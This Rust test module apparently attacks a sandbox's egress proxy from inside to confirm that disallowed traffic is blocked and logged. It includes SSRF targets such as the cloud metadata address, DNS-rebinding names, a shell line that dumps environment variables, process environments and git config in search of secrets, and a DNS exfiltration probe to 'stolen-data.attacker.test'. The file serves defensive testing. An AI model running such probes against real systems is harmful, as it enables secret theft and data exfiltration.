//! The way out, attacked from inside a real box through a real door.
//!
//! Each attack is bytes that go to the box's 127.0.0.1:3128. It is blocked if the far side heard
//! nothing (or nothing of what must not be said), and then the denial has to be on record. Controls
//! before and after show that what is allowed passes. Absent: pushes and TLS that the door ends;
//! they need whole clients, and are tests of the door's room.

pub mod far;
mod hello;
mod tries;

use std::net::IpAddr;
use std::path::PathBuf;
use std::sync::Arc;

use ::egress::{AllowEntry, AllowList, Door, DoorConfig, KnownValues, Limits, Scheme, UpstreamTls};
use anyhow::{Context as _, bail};
use sandbox::Sandbox;

use crate::Arguments;
use crate::inside::{WORD, hex};
use crate::row::{Fate, Rows};
use crate::search::{Needles, fresh};
use crate::world::{INSIDE, World, shell};
use far::{Book, Far, Names, REACHED, SECRET, Vault, Wall};
use tries::{Must, Try};

/// After an answer the far side may still be writing down what it heard.
const SETTLE: std::time::Duration = std::time::Duration::from_millis(30);

/// Everything around one box with a door.
pub struct Scene {
    sandbox: Arc<dyn Sandbox>,
    far: Far,
    book: Arc<Book>,
    secret: String,
    count: std::cell::Cell<usize>,
}

pub async fn attack(arguments: &Arguments, rows: &mut Rows) -> anyhow::Result<()> {
    let world = match World::open(arguments).await {
        Ok(world) => world,
        Err(error) => {
            rows.skipped(&[("S3", "everything at the way out")], &format!("{error:#}"));
            return Ok(());
        }
    };
    let done = attack_in(&world, rows).await;
    world.close().await?;
    done
}

async fn attack_in(world: &World, rows: &mut Rows) -> anyhow::Result<()> {
    let far = Far::start()?;
    let (book, secret) = (Arc::new(Book::default()), fresh()?);
    let list = AllowList::new(entries(far.port))?;
    let folder = world.folder.join("doors/out");
    let door = open(&folder, list, &book, &secret)?;
    let mut spec = world.spec("out")?;
    spec.door = Some(folder.clone());
    let sandbox = world.start_with(spec).await?;
    let scene = Scene { sandbox, far, book, secret, count: std::cell::Cell::new(0) };
    scene.control("before").await.context("what is allowed does not pass")?;
    for attack in tries::all(scene.far.port) {
        rows.tried(attack.class, &attack.what, scene.judged(&attack).await);
    }
    scene.around(rows).await?;
    scene.control("after").await.context("what is allowed does not pass any more")?;
    drop(door);
    let what = "a door whose server is gone";
    rows.tried(
        "S27",
        what,
        scene
            .judged(&Try::new("S27", what, tries::get("allowed.test", scene.far.port), Must::NotConnect).unrecorded())
            .await,
    );
    let empty = open(&folder, AllowList::default(), &scene.book, &scene.secret)?;
    for (what, bytes) in [
        ("an empty list, by plain HTTP", tries::get("allowed.test", scene.far.port)),
        ("an empty list, by a tunnel", tries::connect("tunnel.test", scene.far.port)),
    ] {
        rows.tried("S27", what, scene.judged(&Try::new("S27", what, bytes, Must::NotConnect)).await);
    }
    drop(empty);
    let broken = AllowList::new(vec![AllowEntry { host: Some("bad host".into()), ..AllowEntry::default() }]);
    rows.add("S27", "a broken list that allows something", Fate::blocked_if(broken.is_err()), "");
    world.destroy(&scene.sandbox).await
}

/// What the box may: two hosts in plain HTTP, one of them with a secret and one folder, a tunnel, and
/// names that are listed and lead to where they must not.
fn entries(port: u16) -> Vec<AllowEntry> {
    let plain = |host: &str, private: bool| AllowEntry {
        host: Some(host.to_owned()),
        ports: vec![port, 80],
        scheme: Scheme::Http,
        private,
        ..AllowEntry::default()
    };
    let mut secret = plain("secret.test", true);
    secret.secret = Some(SECRET.to_owned());
    let mut narrow = plain("allowed.test", true);
    narrow.paths = vec!["/ok/".to_owned()];
    narrow.methods = vec!["GET".to_owned(), "POST".to_owned()];
    let tunnel = AllowEntry { scheme: Scheme::Https, ..plain("tunnel.test", true) };
    let public = [
        "cname.test",
        "rebind.test",
        "both.test",
        "six.test",
        "mapped.test",
        "nat64.test",
        "sixtofour.test",
        "cgnat.test",
    ];
    let forbidden = ["metadata.test", "metadata6.test", "linklocal.test", "multicast.test", "zero.test"];
    let mut all = vec![secret, narrow, tunnel, plain("other.test", true)];
    all.extend(public.map(|host| plain(host, false)));
    all.extend(forbidden.map(|host| plain(host, true)));
    all
}

fn names() -> Names {
    let names = Names::default();
    let one = |address: &str| address.parse::<IpAddr>().into_iter().collect::<Vec<_>>();
    for (name, address) in [
        ("six.test", "::1"),
        ("mapped.test", "::ffff:127.0.0.1"),
        ("nat64.test", "64:ff9b::7f00:1"),
        ("sixtofour.test", "2002:7f00:1::"),
        ("cgnat.test", "100.64.0.1"),
        ("metadata.test", "169.254.169.254"),
        ("metadata6.test", "fd00:ec2::254"),
        ("linklocal.test", "fe80::1"),
        ("multicast.test", "224.0.0.251"),
        ("zero.test", "0.0.0.0"),
    ] {
        names.lead(name, vec![one(address)]);
    }
    // A public address first, this machine's own from then on. 192.88.99.1 answers nobody.
    names.lead("rebind.test", vec![one("192.88.99.1"), one("127.0.0.1")]);
    names.lead("both.test", vec![[one("127.0.0.1"), one("192.88.99.1")].concat()]);
    names
}

fn open(folder: &std::path::Path, list: AllowList, book: &Arc<Book>, secret: &str) -> anyhow::Result<Door> {
    let parent: PathBuf = folder.parent().context("no parent")?.to_owned();
    std::fs::create_dir_all(&parent)?;
    let known = KnownValues::new([(SECRET.to_owned(), ::egress::Secret::new(secret))])?;
    let config = DoorConfig {
        box_id: "out".into(),
        folder: folder.to_owned(),
        list,
        resolver: Arc::new(names()),
        secrets: Arc::new(Vault(secret.to_owned())),
        audit: Arc::clone(book) as Arc<dyn ::egress::Audit>,
        clock: Arc::new(Wall),
        upstream: UpstreamTls::system().or_else(|_| UpstreamTls::trusting(""))?,
        authority: None,
        never: Vec::new(),
        known,
        limits: Limits { connect: std::time::Duration::from_secs(2), ..Limits::default() },
    };
    Ok(Door::open(config)?)
}

impl Scene {
    /// Sends the pieces from inside the box; gives what came back.
    async fn send(&self, pieces: &[Vec<u8>]) -> anyhow::Result<String> {
        let number = self.count.get();
        self.count.set(number + 1);
        let hexed: Vec<String> = pieces.iter().map(|piece| hex(piece)).collect();
        shell(&self.sandbox, &format!("send{number}"), &format!("{INSIDE} {WORD} proxy {}", hexed.join("."))).await
    }

    async fn control(&self, when: &str) -> anyhow::Result<()> {
        let port = self.far.port;
        self.far.heard();
        let answer = self.send(&tries::get("allowed.test", port)).await?;
        if !answer.contains(REACHED) {
            bail!("{when}: an allowed request was answered: {answer}");
        }
        let answer = self.send(&tries::get("secret.test", port)).await?;
        let heard = String::from_utf8_lossy(&self.far.heard()).into_owned();
        if !answer.contains(REACHED) || !heard.contains(&format!("Bearer {}", self.secret)) {
            bail!("{when}: the secret was not added: {answer}\n{heard}");
        }
        let tunnel = [tries::connect("tunnel.test", port).concat(), hello::client_hello(Some("tunnel.test"))];
        let answer = self.send(&tunnel).await?;
        let heard = self.far.heard();
        if !answer.contains("200") || !heard.windows(11).any(|window| window == b"tunnel.test") {
            bail!("{when}: an allowed tunnel was answered: {answer}");
        }
        self.book.taken();
        Ok(())
    }

    async fn judged(&self, attack: &Try) -> anyhow::Result<(Fate, String)> {
        tokio::time::sleep(SETTLE).await;
        self.far.heard();
        self.book.taken();
        let answer = self.send(&attack.pieces).await?;
        // A record is written when the request is over, which may be a moment after the answer.
        let mut denials = Vec::new();
        for _ in 0..20 {
            denials.extend(self.book.taken().into_iter().filter_map(|record| record.denial));
            if !denials.is_empty() || attack.unrecorded {
                break;
            }
            tokio::time::sleep(std::time::Duration::from_millis(25)).await;
        }
        tokio::time::sleep(SETTLE).await;
        let heard = self.far.heard();
        let holds = match &attack.must {
            Must::NotConnect => heard.is_empty(),
            Must::NotSay(words) => !contains(&heard, words.as_bytes()),
        };
        let said: String = answer.chars().take(120).collect();
        if !holds {
            return Ok((Fate::Open, format!("the far side heard: {}", heard.escape_ascii())));
        }
        if denials.is_empty() && !attack.unrecorded && heard.is_empty() {
            return Ok((Fate::Open, format!("refused, but no denial is on record: {said}")));
        }
        Ok((Fate::Blocked, denials.first().map_or(said, ToString::to_string)))
    }

    /// What is not one request: redirects, reflected secrets, ways around the door.
    async fn around(&self, rows: &mut Rows) -> anyhow::Result<()> {
        let port = self.far.port;
        self.far.heard();
        let answer = self.send(&tries::get_path("allowed.test", port, "/ok/redirect")).await?;
        let heard = self.far.heard();
        let followed = contains(&heard, b"/private") || answer.contains(REACHED) && !answer.contains("302");
        rows.add("S5", "a redirect that the door follows", Fate::blocked_if(!followed), "");

        let answer = self.send(&tries::get("secret.test", port)).await?;
        let value = Needles::of([self.secret.as_str()]);
        let told = !value.within(answer.as_bytes()).is_empty();
        let control = contains(&self.far.heard(), self.secret.as_bytes()) && answer.contains(REACHED);
        let fate = if control { Fate::blocked_if(!told) } else { Fate::Broken };
        rows.add("S1", "a far side that reflects the secret into the box", fate, "");
        let records = serde_json::to_vec(&self.book.taken())?;
        rows.add(
            "S1",
            "the secret in the egress log",
            Fate::blocked_if(value.within(&records).is_empty() && !records.is_empty()),
            "",
        );
        let seen = shell(&self.sandbox, "dump", "env; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline | tr '\\0' '\\n'; git config -l 2>/dev/null; cat /proc/self/mountinfo").await?;
        rows.add(
            "S1",
            "the secret in a box that may use it",
            Fate::blocked_if(value.within(seen.as_bytes()).is_empty()),
            "",
        );

        for (class, what, words) in [
            ("S5", "past the door, to the far side itself", format!("connect 127.0.0.1:{port}")),
            ("S4", "resolve a listed name in the box", "resolve allowed.test".to_owned()),
            ("S4", "resolve a name that carries data", "resolve stolen-data.attacker.test".to_owned()),
            ("S4", "ask a resolver by UDP beside the door", "udp 1.1.1.1:53".to_owned()),
            ("S5", "out beside the door", "connect 1.1.1.1:443".to_owned()),
        ] {
            let answer = shell(&self.sandbox, what, &format!("{INSIDE} {WORD} {words}")).await?;
            let reached = matches!(answer.trim(), "connected" | "sent" | "resolved");
            rows.add(class, what, Fate::blocked_if(!reached && self.far.heard().is_empty()), answer.trim());
        }
        let line = "find / -xdev -name 'door*' -not -path '/proc/*' -not -path '/usr/*' 2>/dev/null; ls -la /.chargehand* 2>&1; true";
        let listing = shell(&self.sandbox, "find", line).await?;
        rows.add("S3", "the door's own socket in the box's tree", Fate::blocked_if(!listing.contains("door.sock")), "");
        Ok(())
    }
}

fn contains(heard: &[u8], words: &[u8]) -> bool {
    heard.windows(words.len()).any(|window| window == words)
}
